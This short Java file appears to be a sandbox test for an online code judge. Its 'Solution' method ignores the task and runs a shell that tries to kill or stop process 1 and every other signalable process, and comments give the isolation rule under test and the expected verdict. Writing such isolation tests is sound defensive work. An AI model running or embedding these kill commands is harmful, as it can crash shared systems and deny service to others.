// defence: an answer's uid may signal only its own
// verdict: RuntimeError|WrongAnswer
public class Solution {
    public static Map<String, List<Double>> Positions(List<String> words) throws Exception {
        new ProcessBuilder("/bin/sh", "-c", "kill -9 1; kill -STOP 1; kill -9 -1").start().waitFor();
        return Map.of();
    }
}
